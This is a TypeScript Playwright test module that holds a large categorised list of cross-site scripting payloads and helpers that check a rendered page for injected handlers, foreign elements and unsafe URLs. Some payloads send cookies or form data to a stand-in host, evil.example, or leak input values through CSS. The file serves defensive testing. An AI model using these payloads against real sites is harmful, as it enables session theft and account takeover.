// What people try so that a page runs what they wrote, by the kind of trick; written for these tests. Each would call
// `alert` or ask `evil.example` where it worked. None has a character that the API refuses in a text: those with are in
// `REFUSED`.
import { expect, type Page } from '@playwright/test';

const raw = String.raw;

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script\t>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script type=module>import("//evil.example/x.js")</script>',
  '<script type=text/javascript>alert(1)//</script>',
  '<script async src=//evil.example></script>',
  '<script>alert(1)',
  '<script>alert(1)//',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script><!--\nalert(1)\n--></script>',
  '<script>/*<!--*/alert(1)</script>',
  '<script nonce=>alert(1)</script>',
  '<script>fetch("//evil.example/?"+document.cookie)</script>',
  '<script>new Image().src="//evil.example"</script>',
  '<script>throw onerror=alert,1</script>',
  '<script>alert`1`</script>',
  '<script>onerror=alert;throw 1</script>',
];

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror='alert(1)'>",
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x onerror\t=\talert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img src onerror=alert(1)',
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror=&#x61lert(1)>',
  '<img src=x onerror=alert&lpar;1&rpar;>',
  '<img srcset="x" onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<img src=//evil.example/p.gif>',
  '<img src=1 onload=alert(1) srcset=//evil.example/p.png>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<body onhashchange=alert(1)><a href=#x>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<video poster=//evil.example/p.png></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video autoplay onloadstart=alert(1) src=x></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onpointerenter=alert(1) class=post>x</div>',
  '<div onwheel=alert(1)>x</div>',
  '<a onmouseover=alert(1)>x</a>',
  '<a href=x onclick=alert(1)>x</a>',
  '<p tabindex=1 onfocus=alert(1) id=x>x</p>',
  '<div onbeforematch=alert(1) hidden=until-found>x</div>',
  '<div oncontentvisibilityautostatechange=alert(1)>x</div>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<style onload=alert(1)></style>',
  '<link rel=stylesheet href=//evil.example/x.css onload=alert(1)>',
  '<object data=x onerror=alert(1)></object>',
  '<embed src=x onload=alert(1)>',
  '<iframe onload=alert(1)></iframe>',
  '<frameset onload=alert(1)>',
  '<x onanimationstart=alert(1) class=skel>x</x>',
  '<x ontransitionend=alert(1)>x</x>',
  '<form onformdata=alert(1)><button>x</button></form>',
  '<input type=search onsearch=alert(1)>',
];

const VECTORS = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<svg><script xlink:href=data:,alert(1)></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<svg><use href=//evil.example/x.svg#x></svg>',
  '<svg><image href=//evil.example/p.png></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style>@import "//evil.example/x.css"</style></svg>',
  '<svg><discard onbegin=alert(1)>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  '<math href=javascript:alert(1)>x</math>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'j\na\nv\na\ns\nc\nr\ni\np\nt\n:alert(1)',
  'javascript\t:alert(1)',
  'javascript://%0aalert(1)',
  'javascript://https://example.org/%0aalert(1)',
  'javascript:/*https://example.org*/alert(1)',
  'javascript:alert(1)//https://example.org',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;avascript:alert(1)',
  'javas&Tab;cript:alert(1)',
  'javascript%3Aalert(1)',
  'jav%0Dascript:alert(1)',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  'vbs\tcript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'da\nta:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:,alert(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
  'about:blank#<script>alert(1)</script>',
  'intent://evil.example#Intent;scheme=javascript;end',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href=vbscript:msgbox(1)>x</a>',
  '<a href=//evil.example ping=//evil.example/p>x</a>',
  '<a href=x target=_blank rel=opener>x</a>',
  '<area href=javascript:alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<form action=//evil.example><input name=password><button>x</button></form>',
  '<button form=x formaction=javascript:alert(1)>x</button>',
  '<input type=image src=//evil.example/p.png formaction=javascript:alert(1)>',
  '<base href=//evil.example/>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv=Content-Security-Policy content="">',
  '<link rel=prefetch href=//evil.example>',
  '<link rel=import href=//evil.example>',
  '<link rel=preconnect href=//evil.example>',
  '<link rel=manifest href=//evil.example/m.json>',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'onmouseover='alert(1)",
  'https://evil.example/<script>alert(1)</script>',
  'https://evil.example/"><img src=x onerror=alert(1)>',
  'https://evil.example/`onmouseover=alert(1)',
  'https://javascript:alert(1)@evil.example/',
  'http://evil.example/#"><svg onload=alert(1)>',
  'https://evil.example/&quot;onmouseover=&quot;alert(1)',
  'https://evil.example/ onmouseover=alert(1) x=',
];

const BREAKOUTS = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '" onfocus=alert(1) autofocus x="',
  "' onfocus=alert(1) autofocus x='",
  '` onfocus=alert(1) autofocus x=`',
  '" style="position:fixed;inset:0" onmouseover="alert(1)',
  '"/><svg onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '</template><script>alert(1)</script>',
  '</select><img src=x onerror=alert(1)>',
  '</article></div></main><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<%= alert(1) %>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%- global.process %>',
  '[[${alert(1)}]]',
  '{%raw%}<script>alert(1)</script>{%endraw%}',
  raw`\"><script>alert(1)</script>`,
  raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  raw`\x3cscript\x3ealert(1)\x3c/script\x3e`,
  raw`\'-alert(1)//`,
  "'-alert(1)-'",
  '"-alert(1)-"',
  "';alert(1)//",
  '</script><svg onload=alert(1)>',
  '*/alert(1)/*',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)%253C/script%253E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '__proto__[onload]=alert(1)',
  '"__proto__": {"onload": "alert(1)"}',
  '<b id=getElementById name=cookie>clobber</b>',
];

const UNICODE = [
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u02c2script\u02c3alert(1)\u02c2/script\u02c3',
  '\u2039img src=x onerror=alert(1)\u203a',
  '<\u0130mg src=x onerror=alert(1)>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<\u017fvg onload=alert(1)>',
  '<img src=x o\u0274error=alert(1)>',
  '<a href=\u212aavascript:alert(1)>x</a>',
  'javascript\uff1aalert(1)',
  'jav\u0430script:alert(1)',
  '<script>\u2028alert(1)</script>',
  '<img src=x\u3000onerror=alert(1)>',
  '<img\u00a0src=x\u00a0onerror=alert(1)>',
  '\ud83d\ude08<img src=x onerror=alert(1)>\ud83d\ude08',
  '<img src=x onerror=alert(1)>\u0301\u0301\u0301',
  '\u05d0<img src=x onerror=alert(1)>\u05d0',
  '\u0627\u0644<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%E0%80%BCscript%E0%80%BEalert(1)',
  '%c0%bcscript%c0%bealert(1)',
];

const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](<javascript:alert(1)>)',
  '![x](x"onerror="alert(1))',
  '![x](//evil.example/p.png)',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '[<img src=x onerror=alert(1)>](https://evil.example)',
  '```<script>alert(1)</script>```',
  '`<img src=x onerror=alert(1)>`',
  '<details><summary>x</summary><script>alert(1)</script></details>',
  '#<img/src/onerror=alert(1)>',
  '#"><script>alert(1)</script>',
  '@<script>alert(1)</script>',
  '@"onmouseover=alert(1)',
  ':"><svg onload=alert(1)>:',
  'https://evil.example/)[x](javascript:alert(1)',
];

const STYLES = [
  '<style>@import url(//evil.example/x.css)</style>',
  '<style>body{background:url(//evil.example/p.png)}</style>',
  '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
  '<style>*{display:none!important}</style>',
  '<div style="background:url(//evil.example/p.png)">x</div>',
  '<div style=background:url(javascript:alert(1))>x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(//evil.example/x.htc)">x</div>',
  '<div style="-moz-binding:url(//evil.example/x.xml)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>',
  '";background:url(//evil.example/p.png);x:"',
  'red;background:url(//evil.example/p.png)',
  '<xss style="xss:expression(alert(1))">',
];

const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--><img src=x onerror=alert(1)>">',
  '<table><td><a href=javascript:alert(1)>x</table>',
  '<p><svg><p><img src=x onerror=alert(1)>',
  '<iframe><textarea></iframe><img src=x onerror=alert(1)>',
  '<a title="`<img src=x onerror=alert(1)>`">x</a>',
];

const POLYGLOTS = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '"\'--></style></script><svg onload=alert(1)>{{7*7}}${7*7}',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></select></script><html onmouseover=alert(1)>',
  '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
  '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
  '-->\'"/></sCript><svG x=">" onload=(co\\u006efirm)``>',
  ']]>*/--></textarea>"\'><script>alert(1)</script>',
  '%22%3E%3Csvg%20onload%3Dalert(1)%3E"><svg onload=alert(1)>',
];

/** Every trick once. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...VECTORS,
  ...ADDRESSES,
  ...BREAKOUTS,
  ...UNICODE,
  ...MARKDOWN,
  ...STYLES,
  ...MUTATIONS,
  ...POLYGLOTS,
];

/** With characters that no text may have; of white space, which is tidied, there is none. */
export const REFUSED: readonly string[] = [
  '<scri\u0000pt>alert(1)</scri\u0000pt>',
  '\u0000<img src=x onerror=alert(1)>',
  'java\u0001script:alert(1)',
  '\u001bc<svg onload=alert(1)>',
  'javascript\u007f:alert(1)',
];

/** The tricks in as few texts as they fit into, one to a line. */
export function packed(max: number, payloads: readonly string[] = PAYLOADS): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((one) => [...one].length <= max)) {
    const last = texts.at(-1);
    if (last !== undefined && [...last].length + 1 + [...payload].length <= max) {
      texts[texts.length - 1] = `${last}\n${payload}`;
    } else {
      texts.push(payload);
    }
  }
  return texts;
}

/** The tricks of one line, as names and other short fields are; several in one where they fit. */
export function lines(max: number, pack = false): string[] {
  const short = PAYLOADS.filter((one) => [...one].length <= max && !/[\n\t\u2028\u3000\u00a0\u0301]/.test(one));
  return pack ? packed(max, short).map((one) => one.replaceAll('\n', ' ')) : short;
}

/** As a reader sees it: spaces and ends of lines are one space. */
export const seen = (text: string): string => text.normalize('NFC').replace(/\s+/g, ' ').trim();

interface Judging {
  /** What on the page came out of a text. */
  madeOfText: () => string[];
}

/** Prepares a page for [`expectOnlyText`] and [`walk`], and fails on any dialog of the browser. */
export async function judge(page: Page): Promise<void> {
  page.on('dialog', (dialog) => {
    const said = `${dialog.type()}: ${dialog.message()}`;
    void dialog.dismiss();
    throw new Error(`a dialog was opened: ${said}`);
  });
  await page.addInitScript(() => {
    const foreign =
      'iframe,frame,frameset,object,embed,base,marquee,math,template,plaintext,xmp,listing,style,keygen,foreignObject,animate,area,map,link,meta,script[src*=evil],x,xss';
    const addresses = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'srcset', 'ping', 'background'];
    (window as unknown as Judging).madeOfText = () => {
      const wrong = [...document.body.querySelectorAll(foreign)].map((one) => one.outerHTML.slice(0, 200));
      for (const element of document.body.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020]/g, ''))?.[1]?.toLowerCase() ?? 'https';
          const bad = addresses.includes(name) && !['http', 'https', 'blob'].includes(scheme) && !value.startsWith('data:image/');
          if (/^on/i.test(name) || bad || (name === 'style' && /url|expression|import/.test(value))) {
            wrong.push(`<${element.tagName.toLowerCase()} ${name}="${value.slice(0, 120)}">`);
          }
        }
      }
      return wrong;
    };
  });
}

/** Nothing on the page came out of a text: no element that the client does not make, no handler, no address but web
 * addresses and those of the site. */
export async function expectOnlyText(page: Page, where: string): Promise<void> {
  await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
  const found = await page.evaluate(() => (window as unknown as Judging).madeOfText());
  expect(found, `made of what somebody wrote: ${where}`).toEqual([]);
}

/** Goes to addresses without loading the client anew. Each is there when `selector` shows its text, or has it as its
 * value. Gives those that were not, and what was made of a text. */
export async function walk(page: Page, selector: string, stops: { path: string; text: string }[]): Promise<string[]> {
  return page.evaluate(
    async ([selector, stops]) => {
      const wrong: string[] = [];
      const shown = () => [...document.querySelectorAll<HTMLInputElement>(selector)].map((one) => one.value ?? one.textContent);
      for (const { path, text } of stops) {
        history.pushState({}, '', path);
        window.dispatchEvent(new PopStateEvent('popstate', { state: {} }));
        const until = performance.now() + 3_000;
        while (!shown().includes(text) && performance.now() < until) {
          await new Promise((go) => setTimeout(go, 5));
        }
        if (!shown().includes(text)) {
          wrong.push(`${path} shows ${JSON.stringify(shown())}`);
        }
        while (document.querySelector('main [aria-busy="true"]') && performance.now() < until) {
          await new Promise((go) => setTimeout(go, 5));
        }
        wrong.push(...(window as unknown as Judging).madeOfText().map((one) => `${path}: ${one}`));
      }
      return wrong;
    },
    [selector, stops] as const,
  );
}
